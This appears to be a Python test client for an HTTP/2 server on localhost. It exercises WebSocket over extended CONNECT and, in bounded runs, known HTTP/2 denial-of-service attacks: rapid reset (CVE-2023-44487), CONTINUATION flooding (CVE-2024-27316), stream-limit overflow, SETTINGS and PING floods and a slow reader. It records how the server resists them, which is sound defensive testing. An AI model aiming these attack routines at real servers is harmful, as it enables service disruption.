"""An independent HTTP/2 client (Python `h2` over a plain socket, h2c prior knowledge): a
WebSocket by extended CONNECT (RFC 8441), and the HTTP/2 attacks with CVEs, each bounded.
usage: h2_client.py PORT MODE [N] — prints one JSON line with what it saw.
  echo               a WebSocket on /echo: a text message, then close 1000
  over_limit N       N WebSockets opened at once, past the advertised concurrent-stream limit
  reset_mid          half a frame, then RST_STREAM; a sibling WebSocket keeps echoing
  slow_member N      two room members on one connection, one never opening its window; prints
                     "ready", then "b K" as the other has K messages; then the slow one's end
  rapid_reset N      N streams opened and reset at once (CVE-2023-44487), then an echo
  continuation N     a HEADERS block that never ends: N CONTINUATION frames of 1 KiB (CVE-2024-27316)
  settings N         N SETTINGS frames sent without reading the acks
  ping N             N PINGs sent without reading the answers, then the answers read
"""
import json
import os
import socket
import struct
import sys
import time

import h2.config
import hpack
import h2.connection
import h2.events
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

DEADLINE = time.monotonic() + 20
# Every event seen so far (a stream's response may arrive while waiting for another's).
SEEN = []


def connect(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def pump(s, conn, until, limit=5.0):
    """Read and handle frames until until(events) says so (or the peer closes, or the limit)."""
    seen = []
    end = min(time.monotonic() + limit, DEADLINE)
    while time.monotonic() < end:
        s.settimeout(max(0.05, end - time.monotonic()))
        try:
            data = s.recv(65536)
        except socket.timeout:
            break
        except ConnectionResetError:
            seen.append("reset")
            break
        if not data:
            seen.append("eof")
            break
        try:
            events = conn.receive_data(data)
        except Exception as e:  # a frame python-h2 refuses
            seen.append("client error: %s" % e)
            break
        seen.extend(events)
        SEEN.extend(events)
        out = conn.data_to_send()
        if out:
            try:
                s.sendall(out)
            except OSError:
                seen.append("reset")
                break
        if until(seen):
            break
    return seen


def ws_frame(opcode, payload):
    """A masked client frame."""
    mask = os.urandom(4)
    n = len(payload)
    if n < 126:
        head = struct.pack("!BB", 0x80 | opcode, 0x80 | n)
    elif n < 65536:
        head = struct.pack("!BBH", 0x80 | opcode, 0x80 | 126, n)
    else:
        head = struct.pack("!BBQ", 0x80 | opcode, 0x80 | 127, n)
    return head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))


def settings_seen(ev):
    return any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev + SEEN)


def ws_open(s, conn, path="/echo"):
    if not settings_seen([]):
        pump(s, conn, settings_seen, 2)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(
        sid,
        [(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "http"), (":path", path),
         (":authority", "localhost"), ("sec-websocket-version", "13")],
    )
    s.sendall(conn.data_to_send())
    return sid


def status_of(events, sid):
    for e in events + SEEN:
        if isinstance(e, h2.events.ResponseReceived) and e.stream_id == sid:
            return int(dict(e.headers)[":status"])
    return None


def data_of(events, sid):
    return b"".join(e.data for e in events if isinstance(e, h2.events.DataReceived) and e.stream_id == sid)


def echo_on(s, conn, sid, text):
    conn.send_data(sid, ws_frame(1, text.encode()))
    s.sendall(conn.data_to_send())
    want = 2 + len(text)
    got = b""

    def done(ev):
        return len(data_of(ev, sid)) >= want

    ev = pump(s, conn, done)
    for e in ev:
        if isinstance(e, h2.events.DataReceived):
            conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
    got = data_of(ev, sid)
    return got[2:].decode(errors="replace") if len(got) >= want else None, ev


def goaway_of(events):
    for e in events:
        if isinstance(e, h2.events.ConnectionTerminated):
            return str(e.error_code).split(".")[-1].split(":")[0]
    return None


def main(port, mode, n):
    s, conn = connect(port)
    r = {}
    if mode == "echo":
        sid = ws_open(s, conn)
        ev = pump(s, conn, lambda ev: status_of(ev, sid) is not None)
        r["status"] = status_of(ev, sid)
        r["echo"], _ = echo_on(s, conn, sid, "hello from python h2")
        conn.send_data(sid, ws_frame(8, struct.pack("!H", 1000)))
        s.sendall(conn.data_to_send())
        ev = pump(s, conn, lambda ev: any(isinstance(e, h2.events.StreamEnded) and e.stream_id == sid for e in ev))
        d = data_of(ev, sid)
        r["close"] = struct.unpack("!H", d[2:4])[0] if len(d) >= 4 and d[0] == 0x88 else None
        r["ended"] = any(isinstance(e, h2.events.StreamEnded) and e.stream_id == sid for e in ev)
    elif mode == "reset_mid":
        # Half a frame on one WebSocket, then RST_STREAM on it; its sibling keeps echoing.
        a = ws_open(s, conn)
        b = ws_open(s, conn)
        ev = pump(s, conn, lambda ev: status_of(ev, a) and status_of(ev, b))
        r["statuses"] = [status_of(ev, a), status_of(ev, b)]
        conn.send_data(a, ws_frame(1, b"never finished" * 100)[:60])
        s.sendall(conn.data_to_send())
        conn.reset_stream(a)
        s.sendall(conn.data_to_send())
        r["sibling"], _ = echo_on(s, conn, b, "sibling")
    elif mode == "slow_member":
        # Two members of room "slow" on one connection: A never gives its stream window back
        # (its data is acknowledged for the connection only), B reads everything. Prints "ready",
        # then waits for N messages on B and for A's end (the server's 1008, then a reset).
        a = ws_open(s, conn, "/ws?room=slow")
        b = ws_open(s, conn, "/ws?room=slow")
        pump(s, conn, lambda ev: status_of(ev, a) and status_of(ev, b))
        print("ready", flush=True)
        got_b, a_bytes, a_reset, told = b"", 0, False, 0
        end = time.monotonic() + 15
        while time.monotonic() < end and (got_b.count(b'"n":') < n or not a_reset):
            ev = pump(s, conn, lambda ev: True, 1)
            for e in ev:
                if isinstance(e, h2.events.DataReceived) and e.stream_id == b:
                    got_b += e.data
                    conn.acknowledge_received_data(e.flow_controlled_length, b)
                elif isinstance(e, h2.events.DataReceived) and e.stream_id == a:
                    a_bytes += len(e.data)
                    conn.increment_flow_control_window(e.flow_controlled_length)  # the connection's only
                elif isinstance(e, h2.events.StreamReset) and e.stream_id == a:
                    a_reset = True
            out = conn.data_to_send()
            if out:
                s.sendall(out)
            if got_b.count(b'"n":') > told:
                told = got_b.count(b'"n":')
                print("b", told, flush=True)  # the sender goes on when B has what it sent
            if "eof" in ev or "reset" in ev:
                break
        r["b_messages"] = got_b.count(b'"n":')
        r["a_reset"] = a_reset
        r["a_bytes_at_most_window"] = a_bytes <= 65535
    elif mode == "rapid_reset":
        pump(s, conn, lambda ev: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev), 2)
        sent = 0
        try:
            for _ in range(n):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, [(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "http"),
                                        (":path", "/echo"), (":authority", "localhost"),
                                        ("sec-websocket-version", "13")])
                conn.reset_stream(sid)
                s.sendall(conn.data_to_send())
                sent += 1
        except OSError:
            pass
        r["sent"] = sent
        ev = pump(s, conn, lambda ev: goaway_of(ev) is not None, 2)
        r["goaway"] = goaway_of(ev)
        r["closed"] = "eof" in ev or "reset" in ev or r["goaway"] is not None
    elif mode == "over_limit":
        # N extended CONNECTs at once, ignoring the server's SETTINGS_MAX_CONCURRENT_STREAMS
        # (raw frames: python-h2 itself would refuse to send them).
        pump(s, conn, lambda ev: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev), 2)
        r["advertised"] = conn.remote_settings.max_concurrent_streams
        enc = hpack.Encoder()
        for i in range(n):
            h = HeadersFrame(1 + 2 * i)
            h.data = enc.encode([(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "http"),
                                 (":path", "/echo"), (":authority", "localhost"), ("sec-websocket-version", "13")])
            h.flags.add("END_HEADERS")
            s.sendall(h.serialize())
        dec = hpack.Decoder()
        ok, refused, buf = 0, 0, b""
        end = time.monotonic() + 5
        while ok + refused < n and time.monotonic() < end:
            s.settimeout(max(0.05, end - time.monotonic()))
            try:
                data = s.recv(65536)
            except socket.timeout:
                break
            if not data:
                break
            buf += data
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                ftype, payload = buf[3], buf[9:9 + length]
                buf = buf[9 + length:]
                if ftype == 1:  # HEADERS
                    if dict(dec.decode(payload)).get(":status") == "200":
                        ok += 1
                elif ftype == 3 and int.from_bytes(payload[:4], "big") == 7:  # RST_STREAM REFUSED_STREAM
                    refused += 1
        r["ok"], r["refused"] = ok, refused
    elif mode == "continuation":
        pump(s, conn, lambda ev: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev), 2)
        block = conn.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", "/healthz"),
                                     (":authority", "localhost")])
        h = HeadersFrame(1)
        h.data = block
        h.flags.add("END_STREAM")
        sent = 0
        try:
            s.sendall(h.serialize())
            filler = conn.encoder.encode([("x-filler", "a" * 1000)])
            for _ in range(n):
                c = ContinuationFrame(1)
                c.data = filler
                s.sendall(c.serialize())
                sent += 1
        except OSError:
            pass
        r["sent"] = sent
        ev = pump(s, conn, lambda ev: "eof" in ev or "reset" in ev, 3)
        r["goaway"] = goaway_of(ev)
        r["closed"] = "eof" in ev or "reset" in ev or r["goaway"] is not None
    elif mode in ("settings", "ping"):
        pump(s, conn, lambda ev: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev), 2)
        s.setblocking(False)
        sent, blocked = 0, 0
        raw = SettingsFrame(0).serialize() if mode == "settings" else PingFrame(0, opaque_data=b"12345678").serialize()
        burst = raw * 100
        t_end = time.monotonic() + 5
        pending, total = b"", 0
        while sent < n and time.monotonic() < t_end:
            try:
                pending = pending or burst
                k = s.send(pending)
                pending = pending[k:]  # (a partial send is finished first: frames stay whole)
                total += k
                sent = total // len(raw)
            except BlockingIOError:
                blocked += 1  # the server stopped reading us: TCP pushes back
                time.sleep(0.001)
            except OSError:
                break
        while pending and time.monotonic() < t_end + 1:
            try:
                pending = pending[s.send(pending):]
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                break
        r["sent"] = sent
        r["pushed_back"] = blocked > 0
        s.setblocking(True)
        # Now read: every answer the server still owes, or its GOAWAY.
        ev = pump(s, conn, lambda ev: False, 3)
        r["goaway"] = goaway_of(ev)
        r["answers"] = sum(1 for e in ev if isinstance(e, (h2.events.SettingsAcknowledged, h2.events.PingAckReceived)))
    print(json.dumps(r))


main(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 0)
